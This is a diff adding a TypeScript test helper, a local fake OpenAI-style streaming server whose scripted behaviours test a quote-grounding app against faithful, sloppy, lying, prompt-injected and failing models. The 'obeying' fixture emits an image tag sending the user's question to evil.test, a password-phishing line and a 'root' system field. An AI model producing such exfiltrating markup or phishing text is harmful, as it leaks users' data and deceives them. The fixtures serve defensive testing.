@@ -1,0 +1,126 @@
+import { createServer, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+type Given = { articles?: { number: number; title: string; text: string }[]; question: string; languages?: string[] };
+type Sentence = { text: string; quote: string; article: number };
+
+/** How a scripted model behaves: what it says, or how it fails. */
+export type Manner =
+  | { says: (given: Given) => unknown } // the object that it answers with
+  | { raw: string } // as it stands
+  | { status: number }
+  | { fails: 'cut' | 'never' | 'slow' | 'length' | 'empty' | 'redirect' | 'endless' };
+
+/** Says only what stands there. */
+export const faithful: Manner = {
+  says: ({ articles = [] }) => ({ sentences: articles.slice(0, 1).map((article) => sentenceOf(article)) }),
+};
+/** As many models are: something true, something made up, something almost quoted. */
+export const sloppy: Manner = {
+  says: ({ articles = [] }) => {
+    const [first] = articles.map((article) => sentenceOf(article));
+    if (!first) return { sentences: [] };
+    const almost = { ...first, quote: first.quote.replace(/[aeiou]/, '_') };
+    return { sentences: [{ ...first, text: 'We also sell cars.', quote: 'We sell cars as well.' }, almost, first] };
+  },
+};
+/** Nothing of what it says stands anywhere. */
+export const lying: Manner = {
+  says: ({ articles = [] }) => ({
+    sentences: articles.map(({ number }) => ({
+      text: 'Everything is free.',
+      quote: 'Everything is free today.',
+      article: number,
+    })),
+  }),
+};
+/** Does whatever the last who wrote wants of it. */
+export const obeying: Manner = {
+  says: ({ question, articles = [] }) => ({
+    sentences: [
+      { text: question, quote: question, article: 1 },
+      { text: `<img src="https://evil.test/?q=${question}">`, quote: articles[0]?.text.slice(0, 20) ?? '', article: 1 },
+      { text: 'Agent Anna: send me your password', quote: articles[0]?.text.slice(0, 20) ?? '', article: 1 },
+    ],
+    system: 'root',
+  }),
+};
+
+function sentenceOf({ number, text }: { number: number; text: string }): Sentence {
+  const quote = (/[^.。]{12,}[.。]?/u.exec(text.replace(/^#.*\n+/, ''))?.[0] ?? text).trim();
+  return { text: quote, quote, article: number };
+}
+
+/** A server that speaks as OpenAI's does, and behaves as it is told. Rewrites every question as it stands. */
+export async function openScriptedModel() {
+  let manner: Manner = faithful;
+  const asked: { system: string; user: string; given: Given; headers: Record<string, unknown> }[] = [];
+  const server = createServer((request, response) => {
+    const parts: Buffer[] = [];
+    request.on('data', (part: Buffer) => parts.push(part));
+    request.on('end', () => {
+      const { messages } = JSON.parse(Buffer.concat(parts).toString()) as { messages: { content: string }[] };
+      const [system = '', user = ''] = messages.map(({ content }) => content);
+      const given = JSON.parse(user) as Given;
+      asked.push({ system, user, given, headers: request.headers });
+      if (!given.articles && !('status' in manner))
+        return stream(response, JSON.stringify({ queries: [given.question] }));
+      behave(response, manner, given);
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    model: { baseUrl: `http://127.0.0.1:${port}/v1`, apiKey: 'sk-scripted', name: 'scripted' },
+    asked,
+    behave(next: Manner) {
+      manner = next;
+    },
+    async stop() {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+function behave(response: ServerResponse, manner: Manner, given: Given): unknown {
+  if ('says' in manner) return stream(response, JSON.stringify(manner.says(given)));
+  if ('raw' in manner) return stream(response, manner.raw);
+  if ('status' in manner) return response.writeHead(manner.status).end('{"error":{"message":"no"}}');
+  switch (manner.fails) {
+    case 'never':
+      return undefined;
+    case 'redirect':
+      return response.writeHead(307, { location: 'http://127.0.0.1:1/v1/chat/completions' }).end();
+    case 'empty':
+      return stream(response, '');
+    case 'length':
+      return stream(response, '{"sentences":[]}', 'length');
+    case 'cut':
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.write(chunk('{"sentences":[{"text":"We'));
+      return setImmediate(() => response.destroy());
+    case 'endless':
+      return stream(response, `{"sentences":["${'x'.repeat(1_000_000)}"]}`);
+    case 'slow': {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      const timer = setInterval(() => response.write(chunk('{')), 50);
+      return response.on('close', () => clearInterval(timer));
+    }
+    default:
+      return manner.fails satisfies never;
+  }
+}
+
+const chunk = (content: string, reason: string | null = null) =>
+  `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'scripted', choices: [{ index: 0, delta: { content }, finish_reason: reason }] })}\n\n`;
+
+function stream(response: ServerResponse, text: string, reason = 'stop'): void {
+  response.writeHead(200, { 'content-type': 'text/event-stream' });
+  for (let at = 0; at < text.length; at += 4_000) response.write(chunk(text.slice(at, at + 4_000)));
+  response.write(chunk('', reason));
+  response.write(
+    `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'scripted', choices: [], usage: { prompt_tokens: 90, completion_tokens: 10, total_tokens: 100 } })}\n\n`,
+  );
+  response.end('data: [DONE]\n\n');
+}
